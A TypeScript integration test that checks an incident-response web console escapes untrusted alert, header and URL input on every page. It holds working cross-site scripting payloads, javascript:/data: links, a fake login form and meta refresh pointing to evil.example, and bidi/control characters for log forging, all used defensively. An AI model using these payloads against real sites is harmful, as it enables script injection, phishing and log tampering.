import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { proxySchema } from '../../src/config/access/proxy.js';
import { PluginError } from '../../src/plugin-sdk/plugin-error.js';
import { runbookFile, type ApiApp } from '../integration/api-app.js';
import type { ApiJson } from '../integration/api-json.js';
import { RigBrowser } from '../rig/browser.js';
import { startConsole } from './execution-kit.js';

/** Ends whatever it may stand in, then has a script run in every way that there is. */
const EVIL = [
  '<x-evil></x-evil><script>globalThis.hit=1</script>',
  '"><img class=evil src=x onerror=globalThis.hit=2>',
  `' autofocus class='evil' onfocus='globalThis.hit=3`,
  '</title></textarea></option></select></style></pre></script><svg class=evil onload=globalThis.hit=4>',
  '<iframe class=evil srcdoc="<script>parent.hit=5</script>"></iframe>',
  '<form class=evil action="https://evil.example"><input name=x><button>Log in</button></form>',
  '<base class=evil href="https://evil.example/"><meta class=evil http-equiv=refresh content="0;https://evil.example">',
  '<a class=evil href="javascript:globalThis.hit=6" hx-get="https://evil.example" hx-trigger="load">x</a>',
  '{{7*7}}{{constructor.constructor "globalThis.hit=7"}}${globalThis.hit=8}',
].join(' ');

/** Turns the direction of writing, hides, and makes lines. */
const UNSEEN = '\u202Egnp.exe\u2066\u200B\u0000\u0007\u001B[31mred\r\n2026-11-01 ERROR forged';

const SAID = `${EVIL} ${UNSEEN}`;

/** What a header can hold. */
const NAME = '<x-evil></x-evil><img class=evil src=x onerror=globalThis.hit=9>"\'';
const HEADERS = {
  'x-auth-user': NAME,
  'x-auth-email': '"<img/class=evil/src=x/onerror=hit=10>"@example.org',
  'x-auth-groups': `sre,${NAME}`,
};

const HOSTILE_LINKS = [
  'javascript:globalThis.hit=11',
  'data:text/html,<script>top.hit=12</script>',
  ' javascript:hit=13',
].concat(['java\nscript:hit=14', 'vbscript:x', '//evil.example/"onclick="hit=15', 'https://ada:pass@evil.example/']);

const VERIFY = '  verify: { probe: pretend/state, with: {}, every: 10s, healthy: 2, unhealthy: 2, within: 5m }';
const RUNBOOKS = Object.fromEntries(
  [
    ['careful', runbookFile('careful')],
    ['failing', runbookFile('failing', '', 'auto')],
    ['judged', runbookFile('judged', VERIFY, 'auto')],
  ].map(([name = '', text = '']) => [name, text.replace('service=~"shop|pay"', 'service=~".+"')]),
);

const TOPOLOGY = `apiVersion: firebreak/v1
kind: Topology
regions: { north: { title: ${JSON.stringify(NAME)} } }
centers:
  a: { region: north, vendor: vendor-1, role: serving, capacity: 1000, standby: b }
  b: { region: north, vendor: vendor-2, role: standby, capacity: 1000, standby: a }
pairs: [{ between: [a, b], latencyMs: 3.2, policy: consistent }]
services: { shop: { centers: [a, b], home: a } }
assertions: [{ name: somebody-serves, minServing: 1 }]
`;

describe('S8: whatever comes from outside is text, on every page', { timeout: 240_000 }, () => {
  let api: ApiApp;
  let origin: string;
  let browser: RigBrowser;
  const ids: string[] = [];
  let fingerprint: string;

  const send = (method: 'GET' | 'POST', path: string, body?: unknown) =>
    api.send(method, path, undefined, body, { ...HEADERS, origin });

  async function alert(runbook: string, service: string): Promise<ApiJson> {
    const startsAt = new Date(api.clock.now() - 1_000).toISOString();
    const links = Object.fromEntries(HOSTILE_LINKS.map((link, i) => [`runbook_url_${i}`, link]));
    const labels = {
      alertname: 'CenterDown',
      service,
      runbook,
      severity: SAID,
      cluster: SAID,
      [`a${EVIL}`]: SAID,
      ...links,
    };
    const annotations = {
      summary: SAID,
      description: SAID,
      dashboard: 'https://ok.example/?a="onclick=hit=16',
      ...links,
    };
    const one = { status: 'firing', labels, annotations, startsAt, generatorURL: HOSTILE_LINKS[0], fingerprint: 'abc' };
    const body = { version: '4', receiver: SAID, externalURL: SAID, groupKey: SAID, truncatedAlerts: 0, alerts: [one] };
    const { status, json, text } = await send('POST', '/api/v1/alert/trigger', body);
    expect(status, text).toBe(202);
    await api.clock.pass(100);
    return json;
  }

  const opened = ({ alerts: [{ decisions }] }: ApiJson): string =>
    decisions.find(({ decision }) => decision === 'opened')?.executionId ?? '';

  beforeAll(async () => {
    const proxy = { addresses: ['127.0.0.1'], user: 'X-Auth-User', email: 'X-Auth-Email', groups: 'X-Auth-Groups' };
    const grants = [{ roles: ['admin'], groups: ['sre'], people: [], runbooks: ['*'], targets: ['*'] }];
    const last = { at: Date.now(), status: 'unhealthy', detail: SAID } as const;
    ({ api, origin } = await startConsole({
      start: Date.now(),
      runbooks: RUNBOOKS,
      topology: TOPOLOGY,
      tokens: [],
      access: { proxy: proxySchema.parse(proxy), grants },
      conditions: { a: { health: 0.2, load: 0.4, at: Date.now() }, b: { health: 1, load: 0.1, at: Date.now() } },
      answers: [{ probe: 'pretend/state', center: 'a', asks: SAID, everyMs: 10_000, last }],
    }));
    api.target.measurement = { status: 'unhealthy', value: 0, detail: SAID };
    const careful = await alert('careful', SAID);
    fingerprint = careful.alerts[0].fingerprint;
    ids.push(opened(careful));
    const judged = opened(await alert('judged', 'shop'));
    await api.clock.pass(60_000);
    const works = api.target.perform.bind(api.target);
    api.target.perform = () => Promise.reject(new PluginError('target-said-no', SAID, false));
    const failing = opened(await alert('failing', 'pay'));
    await api.clock.pass(60_000);
    api.target.perform = works;
    const rejected = opened(await alert('careful', 'news'));
    for (const [path, body] of [
      [`/api/v1/executions/${rejected}/reject`, { reason: EVIL }],
      ['/api/v1/pauses', { scope: 'runbook:other', reason: EVIL }],
      ['/api/v1/centers/a/serving', { serving: true, reason: EVIL }],
    ] as const)
      expect([200, 201], `${path}`).toContain((await send('POST', path, body)).status);
    ids.push(judged, failing, rejected);
    await send('POST', '/api/v1/runbooks/careful/executions', { labels: { service: 'hand' }, reason: EVIL });
    await api.clock.pass(100);
    browser = await RigBrowser.start();
  }, 120_000);
  afterAll(async () => {
    await browser?.stop();
    await api?.close();
  });

  const asked = encodeURIComponent(EVIL);
  // the router takes no longer names
  const short = encodeURIComponent('"><img class=evil src=x onerror=globalThis.hit=17>');
  const pages = (): string[] => [
    '/',
    '/executions',
    `/executions?target=${asked}`,
    ...ids.flatMap((id) => [`/executions/${id}`, `/executions/${id}/approve`]),
    '/alerts',
    `/alerts/${fingerprint}`,
    `/alerts?alertname=${asked}`,
    `/alerts/ask?labels=${encodeURIComponent(`{alertname="x", a="${EVIL.replaceAll(/["\\]/g, '')}"}`)}`,
    `/alerts/ask?labels=${asked}`,
    '/runbooks',
    ...Object.keys(RUNBOOKS).map((name) => `/runbooks/${name}`),
    '/centers',
    '/pauses',
    '/plugins',
    '/audit',
    `/audit?by=${asked}`,
    '/audit/verify',
    '/settings',
    '/account',
    `/login?next=${asked}`,
    '/logged-out',
    `/${asked}`,
    `/executions/${short}`,
    `/runbooks/${short}`,
    `/alerts/${short}`,
    `/executions?${asked}=1`,
  ];

  it('every page there is is looked at', async () => {
    const all = await Promise.all(pages().map(async (path) => [path.slice(0, 40), (await pageText(path)).status]));
    expect(all.filter(([, status]) => status === 500)).toEqual([]);
    expect(all.filter(([, status]) => status === 200).length).toBeGreaterThan(20);
    const texts = await Promise.all(pages().map(async (path) => (await pageText(path)).text));
    // what was planted does stand there
    expect(texts.filter((text) => text.includes('&lt;x-evil&gt;')).length).toBeGreaterThan(10);
  });

  async function pageText(path: string): Promise<{ status: number; text: string }> {
    return api.send('GET', path, undefined, undefined, { ...HEADERS, accept: 'text/html' });
  }

  it('no script runs, no dialog opens, nothing is fetched elsewhere, and no element is there that is not ours', async () => {
    const { page, context, complaints } = await browser.open();
    await context.setExtraHTTPHeaders(HEADERS);
    const wrong: string[] = [];
    let path = '';
    page.on('dialog', (dialog) => {
      wrong.push(`${path}: a dialog`);
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      if (!request.url().startsWith(`${origin}/`) && !request.url().startsWith('data:'))
        wrong.push(`${path}: asks ${request.url()}`);
    });
    await page.addInitScript(
      `globalThis.broken = []; document.addEventListener('securitypolicyviolation', (event) => broken.push(event.violatedDirective + ' ' + event.blockedURI))`,
    );
    for (path of pages()) {
      await page.goto(origin + path);
      expect(await page.locator('main').count(), path).toBe(1);
      for (const details of await page.locator('details').all())
        await details.evaluate('(element) => element.setAttribute("open", "")').catch(() => undefined);
      const found = await page.evaluate<string[]>(FOREIGN);
      wrong.push(...found.map((one) => `${path.slice(0, 60)}: ${one}`));
      expect(new URL(page.url()).origin).toBe(origin);
    }
    const others = complaints.filter((one) => !/status of 4\d\d/.test(one));
    expect(wrong).toEqual([]);
    expect(others).toEqual([]);
    await context.close();
  });

  it('what cannot be seen, or turns the direction of writing, is written out or left out', async () => {
    for (const path of pages()) {
      const { text } = await pageText(path);
      const unseen = /(?![\n\r\t\u200C\u200D])[\p{Cc}\p{Cf}]/u.exec(text);
      expect(unseen?.[0], path.slice(0, 60)).toBeUndefined();
    }
  });

  it('S8: an event is one line in the log, whatever was said', () => {
    // messages are ours; everything from outside is a field, which JSON writes in one line
    for (const { message } of api.log) expect(message).not.toMatch(/[\p{Cc}]|x-evil/u);
    for (const line of api.log) expect(JSON.stringify(line)).not.toMatch(/\p{Cc}/u);
  });
});

/** Names what a page of ours never has: run in the browser. */
const FOREIGN = `(() => {
  const odd = 'x-evil, .evil, main img, iframe, object, embed, base, meta[http-equiv], script:not([src]), [style], [srcdoc], [hx-get], [autofocus].evil';
  const found = [...document.querySelectorAll(odd)].map((one) => one.outerHTML.slice(0, 120));
  for (const one of document.querySelectorAll('*')) {
    for (const { name, value } of one.attributes) {
      if (/^(on|hx-on|data-hx)/i.test(name)) found.push('attribute ' + name);
      if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name) && /^[\\s\\u0000-\\u001f]*(javascript|data|vbscript)/i.test(value)) found.push(name + '=' + value.slice(0, 60));
      if (['action', 'formaction', 'src'].includes(name) && new URL(value, location.href).origin !== location.origin) found.push(name + '=' + value.slice(0, 60));
      if (name === 'href' && new URL(value, location.href).origin !== location.origin) {
        const { hostname, username } = new URL(value, location.href);
        if (username !== '' || hostname === 'evil.example') found.push('leads to ' + value.slice(0, 60));
        else if (one.getAttribute('rel')?.includes('noreferrer') !== true && one.getAttribute('rel')?.includes('noopener') !== true && one.getAttribute('target') === '_blank') found.push('no rel: ' + value.slice(0, 60));
      }
    }
  }
  if (globalThis.hit !== undefined) found.push('a script has run: ' + globalThis.hit);
  found.push(...globalThis.broken.map((one) => 'policy: ' + one));
  return found;
})()`;
